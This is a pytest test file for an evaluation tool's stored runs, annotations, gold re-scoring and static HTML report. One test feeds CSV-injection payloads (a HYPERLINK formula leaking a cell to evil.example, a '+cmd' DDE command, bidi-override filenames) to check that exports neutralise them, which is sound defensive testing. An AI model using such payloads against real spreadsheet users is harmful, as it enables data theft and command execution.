"""A stored batch run reviewed end to end: `run`'s significance lines and JSON, annotations that survive a re-run,
gold versions that re-score a run without re-running it, and the static report (`python -m tmem report`)."""
import contextlib
import io
import json
import re
import shutil

import pandas as pd
import pytest

from tmem.cli import main as cli

CORRECTIONS = "data/gold/locomo-v1.jsonl"


@pytest.fixture(scope="module")
def stored_run(tmp_path_factory):
    """A mini demo corpus (generator seed 7, 600 messages, 22 questions) run under full and flat offline:
    (template database, run folder, run id, the summary printed by `run`)."""
    from tmem.demo import generate
    from tmem.store import Store

    root = tmp_path_factory.mktemp("review")
    db = root / "mini.duckdb"
    store = Store(db)
    store.replace_corpus("mini", generate(7, 600, 1), format="demo")
    store.close()
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("TMEM_EMBEDDER", "lexical")
        printed = io.StringIO()
        with contextlib.redirect_stdout(printed):
            assert cli(["run", "--db", str(db), "--corpus", "mini", "--variants", "full,flat", "--out",
                        str(root / "run"), "--offline", "--quiet"]) == 0
    run_id = json.loads((root / "run" / "run.json").read_text())["run_id"]
    return db, root / "run", run_id, printed.getvalue()


@pytest.fixture
def db(stored_run, tmp_path, monkeypatch):
    monkeypatch.setenv("TMEM_EMBEDDER", "lexical")
    path = tmp_path / "copy.duckdb"
    shutil.copy(stored_run[0], path)
    wal = stored_run[0].with_name(stored_run[0].name + ".wal")  # the run's process may still hold the file
    if wal.exists():
        shutil.copy(wal, path.with_name(path.name + ".wal"))
    return path


@pytest.mark.integration
def test_run_summary_has_paired_comparisons_and_stale_counts(stored_run):
    _, out, run_id, printed = stored_run
    summary = json.loads((out / "summary.json").read_text())
    assert summary["review"]["primary"] == "evidence"  # offline stand-in answers
    (pair,) = summary["comparisons"]
    assert (pair["variant"], pair["baseline"], pair["primary"]) == ("full", "flat", "evidence")
    for key in ("delta", "ci_low", "ci_high", "p_mcnemar", "n", "outcome"):
        assert key in pair
    assert pair["ci_low"] <= pair["delta"] <= pair["ci_high"]
    assert set(pair["measures"]) == {"evidence", "accuracy", "recall"}
    for groups in pair["measures"].values():
        assert groups[0]["group"] == "overall"
        for g in groups:  # the colour rule: a win needs an interval above 0 and p < 0.05
            if g["outcome"] == "win":
                assert g["ci_low"] > 0 and (g["p_mcnemar"] is None or g["p_mcnemar"] < 0.05)
                assert g["group"] == "overall" or g["p_holm"] is None or g["p_holm"] < 0.05
            if g["ci_low"] is not None and g["ci_low"] <= 0 <= g["ci_high"]:
                assert g["outcome"] == "inconclusive"
        # per type McNemar's p Holm-adjusted over the types (never below it); overall unadjusted (issue 39)
        assert groups[0]["p_holm"] is None
        assert all(g["p_holm"] >= g["p_mcnemar"] for g in groups[1:] if g["p_mcnemar"] is not None)
    recall = pair["measures"]["recall"][0]
    assert recall["variant"] == summary["variants"]["full"]["recall"]["recall"]  # the same Eq. 10 figure
    counts = summary["review"]["counts"]
    assert set(counts) == {"full", "flat"} and "revision without rollback" in counts["flat"]
    assert "full - flat (paired bootstrap 95% percentile interval, 2000 resamples" in printed
    assert re.search(r"evidence\s+overall\s+\d+", printed)


def _row(store, run_id, variant="full", wrong=False):
    rows = store.run_results("mini", run_id)
    rows = rows[(rows["variant"] == variant) & rows["units"].notna()]
    return rows[rows["correct"] == False].iloc[0].to_dict() if wrong else rows.iloc[0].to_dict()  # noqa: E712


@pytest.mark.integration
def test_annotations_are_stored_counted_exported_and_kept_on_a_rerun(stored_run, db, tmp_path, capsys):
    from tmem.analysis.annotations import label_counts, with_annotations
    from tmem.store import Store

    _, out, run_id, _ = stored_run
    store = Store(db)
    row = _row(store, run_id)
    store.close()
    assert cli(["annotate", "--db", str(db), "--run", run_id, "--question", row["question_id"], "--variant",
                "full", "--label", "judge wrong", "--note", "the answer <b>is</b> right", "--author", "ana"]) == 0
    assert cli(["annotate", "--db", str(db), "--run", run_id, "--question", row["question_id"], "--variant",
                "flat", "--label", "paraphrase", "--description", "a new label", "--author", "ana"]) == 0
    assert "annotated full" in capsys.readouterr().out
    # the same command again: the run resumes (nothing re-run) and stores its rows again; the notes stay
    assert cli(["run", "--db", str(db), "--corpus", "mini", "--variants", "full,flat", "--out", str(out),
                "--offline", "--quiet"]) == 0
    store = Store(db)
    rows = with_annotations(store.run_results("mini", run_id), store.annotations("mini"))
    noted = rows[rows["label"].notna()]
    assert sorted(noted["label"]) == ["judge wrong", "paraphrase"] and set(noted["annotated_by"]) == {"ana"}
    assert ("paraphrase", "a new label") in store.failure_labels()
    counts = label_counts(rows)
    assert set(counts["label"]) == {"judge wrong", "paraphrase"} and counts["total"].sum() == 2
    # another run of the same question and configuration shows the note, marked with the run it came from
    other = store.run_results("mini", run_id).assign(run_id="later-run")
    carried = with_annotations(other, store.annotations("mini"))
    assert set(carried["annotation_run"].dropna()) == {run_id}
    store.close()
    assert cli(["annotate", "--db", str(db), "--run", run_id, "--list", "--export", str(tmp_path / "rows.csv")]) == 0
    printed = capsys.readouterr().out
    assert "judge wrong" in printed and "total" in printed
    exported = pd.read_csv(tmp_path / "rows.csv")
    assert len(exported) == 44 and {"label", "note", "annotated_by"} <= set(exported.columns)
    assert cli(["annotate", "--db", str(db), "--run", run_id, "--question", row["question_id"], "--variant", "full",
                "--delete", "--author", "ana"]) == 0
    assert "deleted 1" in capsys.readouterr().out


@pytest.mark.integration
def test_annotation_text_opens_as_text_in_a_spreadsheet_and_reads_in_the_order_written(stored_run, db, tmp_path,
                                                                                        capsys):
    """Issue 44: CSV exports wrote `=HYPERLINK(...)` and `+cmd|...` as formulas, and a bidi override rendered a
    note reversed. Formulas get a leading apostrophe in every CSV export (annotate --export, the report's rows.csv,
    the app's CSV buttons); bidi controls are replaced when stored and when read (notes stored before)."""
    import csv

    from tmem.analysis.annotations import with_annotations
    from tmem.store import Store

    _, _, run_id, _ = stored_run
    store = Store(db)
    row = _row(store, run_id)
    store.close()
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert cli(["annotate", "--db", str(db), "--run", run_id, "--question", row["question_id"], "--variant", "full",
                "--label", "+cmd|' /C calc'!A0", "--note", formula, "--author", "@ana"]) == 0
    assert cli(["annotate", "--db", str(db), "--run", run_id, "--export", str(tmp_path / "rows.csv")]) == 0
    assert cli(["report", "--db", str(db), "--run", run_id, "--out", str(tmp_path / "site"), "--pages", "none"]) == 0
    for path in (tmp_path / "rows.csv", tmp_path / "site" / "rows.csv"):
        cells = [c for line in csv.reader(path.open()) for c in line]
        assert "'" + formula in cells and "'+cmd|' /C calc'!A0" in cells and "'@ana" in cells, path
        assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "@"))], path
    # a note stored before the store cleaned it (straight into the table) is shown neutralised all the same
    store = Store(db)
    store.save_annotation({"corpus": "mini", "run_id": run_id, "scope": row["scope"], "question_id": row["question_id"],
                           "variant": "flat", "author": "old", "label": "old \u202elabel", "note": "a \u202egnp.exe",
                           "config_hash": None, "backend": None})
    shown = with_annotations(store.run_results("mini", run_id), store.annotations("mini"))
    store.close()
    noted = shown[shown["label"].notna()]
    assert "old \ufffdlabel" in set(noted["label"]) and "a \ufffdgnp.exe" in set(noted["note"])


@pytest.mark.integration
def test_bad_annotations_are_one_clear_line(stored_run, db, capsys):
    _, _, run_id, _ = stored_run
    assert cli(["annotate", "--db", str(db), "--run", run_id, "--question", "nope", "--label", "x"]) == 1
    assert "no row for question 'nope'" in capsys.readouterr().err
    assert cli(["annotate", "--db", str(db), "--run", run_id, "--question", "temporal_1", "--label", "x"]) == 1
    assert "pass --variant" in capsys.readouterr().err
    assert cli(["annotate", "--db", str(db), "--run", run_id, "--question", "temporal_1", "--variant", "full",
                "--label", "x" * 81]) == 1
    assert "at most 80" in capsys.readouterr().err
    assert cli(["annotate", "--db", str(db), "--run", "no-such-run", "--list"]) == 1
    assert "no stored run 'no-such-run'" in capsys.readouterr().err


@pytest.mark.integration
def test_a_gold_version_rescores_a_stored_run(stored_run, db, tmp_path, capsys):
    from tmem.evaluation.gold_versions import rescore
    from tmem.store import Store

    _, _, run_id, _ = stored_run
    store = Store(db)
    row = _row(store, run_id, wrong=True)
    gold = store.gold("mini", row["scope"], row["question_id"])
    full = store.run_results("mini", run_id)
    answer = store.load_trace("mini", row["scope"], row["question_id"], "full", row["config_hash"],
                              row["backend"]).answers[0].text
    store.close()
    # correct the gold answer to the stand-in's own answer, and its evidence to the first unit only
    fixes = tmp_path / "fix.jsonl"
    fixes.write_text("// a comment line\n" + json.dumps({
        "scope": row["scope"], "question": row["question_id"], "answer": answer, "evidence": [list(gold.evidence[0])],
        "reason": "test"}) + "\n")
    assert cli(["gold", "--db", str(db), "--corpus", "mini", "--add", str(fixes), "--name", "v1", "--list"]) == 0
    assert "v1" in capsys.readouterr().out
    store = Store(db)
    after = rescore(store, "mini", run_id, "v1")
    before = rescore(store, "mini", run_id, "original")
    store.close()
    key = (after["question_id"] == row["question_id"]) & (after["variant"] == "full")
    assert after.loc[key, "correct"].item() is True and after.loc[key, "corrected"].item()
    assert after.loc[key, "units"].item() == 1
    assert after.loc[key, "judge"].item() == "offline:lexical-judge"
    assert int(after["verdict_changed"].sum()) >= 1 and not after.loc[~after["corrected"], "verdict_changed"].any()
    # under the original gold the stored verdicts are kept as they are
    assert before["correct"].astype("boolean").equals(full["correct"].astype("boolean"))
    assert cli(["gold", "--db", str(db), "--rescore", run_id, "--version", "v1", "--json"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["variants"]["full"]["corrected_rows"] == 1 and result["comparisons"][0]["primary"] == "evidence"


def test_an_llm_judge_is_never_mixed_with_the_offline_one(golden_trace):
    from dataclasses import replace

    from tmem.evaluation.gold_versions import rejudge
    from tmem.types import Verdict

    trace, gold, _ = golden_trace
    llm = replace(trace, verdicts=tuple(Verdict(v.presentation, False, "Final: Incorrect", "openai:m", False)
                                        for v in trace.verdicts))
    kept, judge = rejudge(llm, gold, "keep", answer_changed=False)
    assert kept.verdicts == llm.verdicts and judge == "openai:m"
    cleared, judge = rejudge(llm, gold, "keep", answer_changed=True)
    assert cleared.verdicts == () and "LLM judge must judge again" in judge
    offline, judge = rejudge(llm, gold, "offline", answer_changed=True)
    assert all(v.backend == "offline:lexical-judge" for v in offline.verdicts) and "was an LLM" in judge


@pytest.mark.integration
def test_bad_corrections_files_name_the_line_and_field(stored_run, db, tmp_path, capsys):
    lines = {
        "not json": "not valid JSON", "[1, 2]": "must be an object",
        '{"scope": "Technology", "question": "nope", "answer": "x", "reason": "r"}': "no question 'nope'",
        '{"scope": "Technology", "question": "temporal_1", "reason": "r"}': "needs 'answer' and/or 'evidence'",
        '{"scope": "Technology", "question": "temporal_1", "evidence": [["Msg_x"]], "reason": "r"}':
            "Msg_x not a message",
        '{"scope": "Technology", "question": "temporal_1", "answer": "x"}': "'reason'"}
    for text, message in lines.items():
        path = tmp_path / "bad.jsonl"
        path.write_text("\n" + text + "\n")
        assert cli(["gold", "--db", str(db), "--corpus", "mini", "--add", str(path)]) == 1
        err = capsys.readouterr().err
        assert "bad.jsonl:2: " in err and message in err, err


@pytest.mark.integration
def test_corrections_are_bounded_like_an_imports_questions(stored_run, db, tmp_path, capsys):
    """Issue 44: gold corrections took any size (a 50 MB answer, 200,000 units, repeated JSON keys); an 80 KB one
    with 10,000 units took the stale check to 2 GB, and a 1 MB answer made re-scoring 5x slower."""
    from tmem import limits

    fix = {"scope": "Technology", "question": "temporal_1", "reason": "r"}
    lines = {
        json.dumps(fix | {"answer": "a" * (limits.MAX_MESSAGE_CHARS + 1)}): "field 'answer' is 20,001 characters, "
                                                                            "over the limit of 20,000",
        json.dumps(fix | {"evidence": [[f"m{i}"] for i in range(10_000)]}): "at most 1,000 units",
        json.dumps(fix | {"evidence": [[f"m{i}" for i in range(1_001)]]}): "of at most 1,000 ids",
        json.dumps(fix | {"evidence": [["m" * 1_001]]}): "of at most 1,000 characters",
        json.dumps(fix | {"reason": "r" * (limits.MAX_MESSAGE_CHARS + 1), "answer": "x"}): "field 'reason' is",
        json.dumps(fix | {"question": "q" * 1_001, "answer": "x"}): "field 'question' is 1,001 characters",
        '{"scope": "Technology", "question": "temporal_1", "answer": "x", "answer": "y", "reason": "r"}':
            "key 'answer' appears twice in one object; refused",
        '{"scope": "Technology", "question": "temporal_1", "answer": "x", "reason": "r", "extra": {"k": 1, "k": 2}}':
            "key 'k' appears twice",
    }
    for text, message in lines.items():
        path = tmp_path / "big.jsonl"
        path.write_text("\n" + text + "\n")
        assert cli(["gold", "--db", str(db), "--corpus", "mini", "--add", str(path)]) == 1
        err = capsys.readouterr().err
        assert "big.jsonl:2: " in err and message in err and len(err.splitlines()) == 1, (message, err[:300])


def test_the_shipped_locomo_corrections_name_real_questions():
    lines = [json.loads(line) for line in open(CORRECTIONS, encoding="utf-8") if line.strip() and
             not line.startswith("//")]
    assert len(lines) == 8 and all(line["reason"] and ("answer" in line or "evidence" in line) for line in lines)
    assert all(re.fullmatch(r"conv-\d+_q\d+", line["question"]) for line in lines)
    assert all(len(line.get("answer", "")) <= 80 for line in lines)  # short corrected answers only


@pytest.mark.integration
def test_the_report_is_a_static_escaped_site(stored_run, db, tmp_path, capsys):
    _, _, run_id, _ = stored_run
    out = tmp_path / "site"
    assert cli(["report", "--db", str(db), "--run", run_id, "--out", str(out), "--pages", "failures"]) == 0
    assert "open file://" in capsys.readouterr().out
    index = (out / "index.html").read_text()
    assert "Content-Security-Policy" in index and "default-src 'none'" in index
    assert "<script" not in index and not re.search(r"(src|href)=['\"]?(https?:)?//", index)
    assert "offline stand-in" in index and "full − flat" in index and "McNemar" in index
    assert not re.search(r">(nan|None|NaN|<NA>|True|False)<", index)  # no raw values in any cell
    assert index.index("<td>full</td>") < index.index("<td>flat</td>")  # the comparison order, full first
    pages = list((out / "q").glob("*.html"))
    assert pages and all(re.fullmatch(r"[A-Za-z0-9_.-]+\.html", p.name) for p in pages)
    links = set(re.findall(r"href='q/([^']+)'", index))
    assert links == {p.name for p in pages}
    page = pages[0].read_text()
    assert "../index.html" in page and "<svg" in page and "Review" in page and "<script" not in page
    summary = json.loads((out / "summary.json").read_text())
    assert summary["comparisons"][0]["variant"] == "full"
    rows = pd.read_csv(out / "rows.csv")
    for variant, what in summary["whatif"].items():  # the what-if counts the units `run`'s recall counts
        assert what["units"] == rows.loc[rows["variant"] == variant, "units"].sum()
    assert len(rows) == 44


@pytest.mark.integration
def test_the_report_never_writes_through_a_link_and_clears_only_its_own_stale_pages(stored_run, db, tmp_path,
                                                                                   capsys):
    """Issue 44: `report --out` wrote through a symlinked index.html (a file outside overwritten) and 12 pages
    outside through a symlinked q/, took "" as the current folder, and left an earlier report's pages behind."""
    _, _, run_id, _ = stored_run
    report = lambda out, *extra: cli(["report", "--db", str(db), "--run", run_id, "--out", str(out), *extra])  # noqa
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "precious.txt").write_text("keep me")
    out = tmp_path / "site"
    out.mkdir()
    (out / "index.html").symlink_to(outside / "precious.txt")
    assert report(out, "--pages", "all") == 0
    assert (outside / "precious.txt").read_text() == "keep me" and not (out / "index.html").is_symlink()
    every = {p.name for p in (out / "q").glob("*.html")}
    assert len(every) == 44
    # an earlier report's pages that this one does not write are removed; other files are not touched, and a
    # link named like a page is removed, never what it points to
    (out / "q" / "notes.txt").write_text("mine")
    (outside / "page.html").write_text("outside")
    (out / "q" / "x-0123abcd.html").symlink_to(outside / "page.html")
    assert report(out, "--pages", "failures") == 0
    failures = {p.name for p in (out / "q").glob("*.html")}
    assert failures < every and set(re.findall(r"href='q/([^']+)'", (out / "index.html").read_text())) == failures
    assert (out / "q" / "notes.txt").read_text() == "mine" and (outside / "page.html").read_text() == "outside"
    assert not (out / "q" / "x-0123abcd.html").exists()
    assert "question page(s) of an earlier report removed" in capsys.readouterr().err
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / "q").symlink_to(outside, target_is_directory=True)
    assert report(linked) == 1
    assert "q: is a symbolic link" in capsys.readouterr().err and sorted(p.name for p in outside.iterdir()) == [
        "page.html", "precious.txt"]
    with pytest.raises(SystemExit):
        report("")
    assert "--out: an empty folder name" in capsys.readouterr().err


@pytest.mark.integration
def test_rescored_rows_carry_the_evidence_verdict_and_its_attribution(stored_run, db):
    """Each answerable row: units in the context after compression (complete iff all), the missing units named,
    and the stage that lost one attributed whatever the stand-in's verdict; one bulk read agrees with per-row
    reads of the same traces."""
    from tmem.evaluation.gold_versions import rescore
    from tmem.evaluation.review import GoldContext
    from tmem.store import Store

    store = Store(db)
    rows = rescore(store, "mini", stored_run[2], "original")
    ctx = GoldContext(store, "mini")
    answerable = rows[rows["units"].notna()]
    assert len(answerable) and (answerable["units_in_context"] <= answerable["units"]).all()
    complete = answerable["units_in_context"] == answerable["units"]
    assert (answerable["evidence_complete"].astype(bool) == complete).all()
    assert answerable.loc[~complete, "evidence_missing"].notna().all()
    assert answerable.loc[~complete, "evidence_failure"].notna().all()
    assert answerable.loc[complete, "evidence_failure"].isna().all()
    for row in rows.head(6).to_dict("records"):  # the per-row path (the app's own traces) gives the same columns
        trace = store.load_trace("mini", row["scope"], row["question_id"], row["variant"], row["config_hash"],
                                 row["backend"])
        one = ctx.review(trace, row["scope"], row["question_id"])
        assert {k: one[k] for k in ("units_in_context", "evidence_failure")} == {
            k: (None if pd.isna(row[k]) else row[k]) for k in ("units_in_context", "evidence_failure")}
    store.close()


def test_run_names_who_wrote_the_injected_noise_chains_beside_complete_chains():
    """Issue 42: `run` on a noise-chain corpus prints the corpus's noise-chain note (its writer) under the counts."""
    from tmem.evaluation.review import format_review

    note = "noise chains: 9 injected gold UPDATE edge(s) whose text was written by the offline plumbing templates"
    summary = {"review": {"primary": "evidence", "counts": {}}, "chain_writers": [note]}
    assert f"  {note} (the corpus's import notes)" in format_review(summary).split("\n")
    assert "noise chains" not in format_review({**summary, "chain_writers": None})


@pytest.mark.integration
def test_the_report_of_the_demo_says_its_figures_are_the_generated_corpus(stored_run, db, monkeypatch):
    """Issue 42 item 6: every figure shown on the demo says "generated demo corpus, n = …" — the app's Compare did,
    the report of the same run did not. The note follows the corpus name, as the app's does: the mini corpus here
    is not the demo, so its report carries none; with the demo's name pointed at it, the report leads with the note
    and counts the run's questions."""
    from tmem.evaluation import report
    from tmem.store import Store
    from tmem.viz.report import site_html

    _, _, run_id, _ = stored_run
    store = Store(db)
    try:
        site = report.build(store, "mini", run_id)
    finally:
        store.close()
    assert "enerated demo corpus" not in site_html.index_page(site)
    monkeypatch.setattr(site_html, "DEMO_CORPUS", "mini")
    n = site.rows[["scope", "question_id"]].drop_duplicates().shape[0]
    assert n == 22  # the fixture's questions, each answered by both variants
    page = site_html.index_page(site)
    assert f"Generated demo corpus, n = {n} questions: a synthetic chat built so that BM25 misses" in page
    assert page.index("Generated demo corpus") < page.index("<h2 id='summary'>")  # before every figure
